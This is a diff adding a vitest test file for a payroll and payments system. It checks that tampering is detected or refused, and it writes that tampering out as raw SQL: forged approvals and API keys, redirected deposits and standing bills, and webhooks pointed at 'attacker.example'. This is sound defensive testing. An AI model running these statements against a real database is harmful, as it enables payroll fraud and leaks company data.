@@ -1,0 +1,235 @@
+import { sql } from 'kysely';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { Tx } from '#server/db/tx.ts';
+import { wordsIn, readDocsTable } from '#test/docs-table.ts';
+import { asServer, openTamperedCompany } from '#test/tampered-company.ts';
+import type { TamperedCompany } from '#test/tampered-company.ts';
+
+let company: TamperedCompany;
+beforeAll(async () => {
+  company = await openTamperedCompany();
+});
+afterAll(() => company.close());
+
+interface Case {
+  what: string;
+  does: (tx: Tx) => Promise<unknown>;
+  /** Exactly the checks that find it. */
+  found: readonly string[];
+}
+
+const run = (text: string) => (tx: Tx) => sql.raw(text).execute(tx);
+
+/** Acts of an intruder in the server, by its role and past nothing that is refused. */
+const byServer: Case[] = [
+  {
+    what: 'raises what a payroll may pay',
+    does: run('UPDATE company_settings SET payroll_batch_limit_minor = 900000000000'),
+    found: ['settings'],
+  },
+  {
+    what: 'lets one person do what takes two',
+    does: run('UPDATE company_settings SET separate_payout_minor = 900000000000'),
+    found: ['settings'],
+  },
+  {
+    what: 'lets a new administrator be the second person sooner',
+    does: run('UPDATE company_settings SET second_person_hours = 24'),
+    found: ['settings'],
+  },
+  {
+    what: 'pays out to people whose identity nobody checked',
+    does: run('UPDATE company_settings SET require_approved_identity = false'),
+    found: ['settings'],
+  },
+  {
+    what: 'sends deposits to another bank account',
+    does: run(`UPDATE company_settings
+                  SET receiving_routing_number = '021000021', receiving_account_number = '666666'`),
+    found: ['settings'],
+  },
+  {
+    what: 'proposes a change of settings in an admin’s name',
+    does: async (tx) => {
+      await sql`UPDATE security_proposal SET outcome = 'discarded', decided_at = now(),
+                                             decided_by = ${company.ids.admin}`.execute(tx);
+      await sql`INSERT INTO security_proposal (id, rules, seen, proposed_by, proposed_at)
+                VALUES (gen_random_uuid(), '{"separatePayout": null}', '{"separatePayout": null}',
+                        ${company.ids.admin}, now())`.execute(tx);
+    },
+    found: ['setting-proposal-record'],
+  },
+  {
+    what: 'accepts a proposed change in an admin’s name',
+    does: (tx) =>
+      sql`UPDATE security_proposal SET outcome = 'accepted', decided_at = now(),
+                                       decided_by = ${company.otherAdmin.actor.id}`.execute(tx),
+    found: ['setting-proposal-record'],
+  },
+  {
+    what: 'approves an identity in an admin’s name',
+    does: (tx) =>
+      sql`UPDATE kyc_application SET status = 'approved', submitted_at = now(), decided_at = now(),
+                                     decided_by = ${company.ids.admin}, answers_encrypted = ''
+           WHERE user_id = ${company.newcomerId}`.execute(tx),
+    found: ['identity-approved'],
+  },
+  {
+    what: 'makes an API key in an admin’s name',
+    does: (tx) =>
+      sql`INSERT INTO api_key (id, name, scopes, token_hash, last4, created_by, created_at, expires_at)
+          VALUES (gen_random_uuid(), 'Reports', '{payroll:write}', sha256('forged'), 'edge',
+                  ${company.ids.admin}, now(), now() + interval '1 day')`.execute(tx),
+    found: ['api-key-record'],
+  },
+  {
+    what: 'lets a revoked API key work again',
+    does: (tx) =>
+      sql`UPDATE api_key SET revoked_at = NULL, revoked_by = NULL
+           WHERE id = ${company.doors.revokedKey}`.execute(tx),
+    found: ['api-key-record'],
+  },
+  {
+    what: 'sends the company’s events to an address of their own',
+    does: (tx) =>
+      sql`INSERT INTO webhook_endpoint (id, url, events, created_by, created_at, secret_encrypted,
+                                        secret_owner, secret_at)
+          VALUES (gen_random_uuid(), 'https://attacker.example/', '{withdrawal.approved}',
+                  ${company.ids.admin}, now(), '', ${company.ids.admin}, now())`.execute(tx),
+    found: ['webhook-record'],
+  },
+  {
+    what: 'makes an invite of their own',
+    does: (tx) =>
+      sql`INSERT INTO admin_invite (id, token_hash, created_by, created_at, expires_at)
+          VALUES (gen_random_uuid(), sha256('forged'), ${company.ids.admin}, now(),
+                  now() + interval '1 day')`.execute(tx),
+    found: ['invite-record'],
+  },
+  {
+    what: 'turns a standing bill to a payee of their own',
+    does: (tx) =>
+      sql`WITH own AS (
+            INSERT INTO payee (id, user_id, created_at, kind, name, account_type, last4,
+                               account_number_encrypted, routing_number, customer_number)
+            SELECT gen_random_uuid(), user_id, now(), 'business', 'Shell', 'checking', '6666', '',
+                   '021000021', '' FROM standing_bill WHERE id = ${company.standingBill}
+            RETURNING id)
+          UPDATE standing_bill SET payee_id = own.id FROM own
+           WHERE standing_bill.id = ${company.standingBill}`.execute(tx),
+    found: ['standing-bill-record'],
+  },
+  {
+    what: 'pays a standing bill again sooner',
+    does: (tx) =>
+      sql`UPDATE standing_bill SET next_on = starts_on WHERE id = ${company.standingBill}`.execute(
+        tx,
+      ),
+    found: ['standing-bill-record'],
+  },
+  {
+    what: 'stops a standing bill in its owner’s name',
+    does: (tx) =>
+      sql`UPDATE standing_bill SET next_on = NULL, ended_at = now(), ended_by = user_id
+           WHERE id = ${company.standingBill}`.execute(tx),
+    found: ['standing-bill-record'],
+  },
+  {
+    what: 'sets up a standing bill in a person’s name',
+    does: (tx) =>
+      sql`INSERT INTO standing_bill (id, user_id, wallet_id, payee_id, amount_minor, currency, memo,
+                                     frequency, starts_on, next_on, created_at, updated_at)
+          SELECT gen_random_uuid(), user_id, wallet_id, payee_id, 90000, 'USD', '', 'weekly',
+                 starts_on, starts_on, now(), now()
+            FROM standing_bill WHERE id = ${company.standingBill}`.execute(tx),
+    found: ['standing-bill-record'],
+  },
+];
+
+/** Acts of an owner of the database, which the server's role is refused. */
+const byOwner: Case[] = [
+  {
+    what: 'changes what a proposed change says',
+    does: run(`UPDATE security_proposal SET rules = '{"separatePayout": null}'`),
+    found: ['setting-proposal-record'],
+  },
+  {
+    what: 'widens an API key',
+    does: (tx) =>
+      sql`UPDATE api_key SET scopes = scopes || '{payroll:write}' WHERE id = ${company.doors.apiKey}`.execute(
+        tx,
+      ),
+    found: ['api-key-record'],
+  },
+  {
+    what: 'lets an API key work for longer',
+    does: (tx) =>
+      sql`UPDATE api_key SET expires_at = expires_at + interval '1 minute'
+           WHERE id = ${company.doors.apiKey}`.execute(tx),
+    found: ['api-key-record'],
+  },
+  {
+    what: 'puts a token of their own into an API key',
+    does: (tx) =>
+      sql`UPDATE api_key SET token_hash = sha256('forged') WHERE id = ${company.doors.apiKey}`.execute(
+        tx,
+      ),
+    found: ['api-key-record'],
+  },
+  {
+    what: 'turns a webhook to another address',
+    does: (tx) =>
+      sql`UPDATE webhook_endpoint SET url = 'https://attacker.example/'
+           WHERE id = ${company.doors.webhook}`.execute(tx),
+    found: ['webhook-record'],
+  },
+  {
+    what: 'opens an invite to everybody, for longer',
+    does: (tx) =>
+      sql`UPDATE admin_invite SET email = NULL, expires_at = expires_at + interval '1 year'
+           WHERE id = ${company.doors.invite}`.execute(tx),
+    found: ['invite-record'],
+  },
+  {
+    what: 'pays a standing bill more often',
+    does: (tx) =>
+      sql`UPDATE standing_bill SET frequency = 'weekly' WHERE id = ${company.standingBill}`.execute(
+        tx,
+      ),
+    found: ['standing-bill-record'],
+  },
+  {
+    what: 'lets a standing bill never end',
+    does: (tx) =>
+      sql`UPDATE standing_bill SET ends_on = NULL WHERE id = ${company.standingBill}`.execute(tx),
+    found: ['standing-bill-record'],
+  },
+];
+
+describe('what decides about money and is no posting', () => {
+  test.each(byServer)('the server’s role is found that $what', async ({ does, found }) => {
+    expect(await company.finds((tx) => asServer(tx, () => does(tx)))).toEqual(found);
+  });
+
+  test.each(byOwner)('the server’s role is refused that $what', async ({ does }) => {
+    expect(await company.refusal(does)).toBeDefined();
+  });
+
+  test('is in docs/ledger.md, with the checks that notice it', () => {
+    const rows = readDocsTable('### What decides about money').map(([what, who, noticed]) => ({
+      ...{ what, who, found: wordsIn(noticed) },
+    }));
+    const inWords =
+      (who: string) =>
+      ({ what, found }: Case) => ({ what, who, found: [...found] });
+    expect(rows).toEqual([...byServer.map(inWords('app')), ...byOwner.map(inWords('owner'))]);
+  });
+});
+
+describe('with everything taken away that refuses it', () => {
+  beforeAll(() => company.liftGuards());
+
+  test.each(byOwner)('an owner is found that $what', async ({ does, found }) => {
+    expect(await company.finds(does)).toEqual(found);
+  });
+});
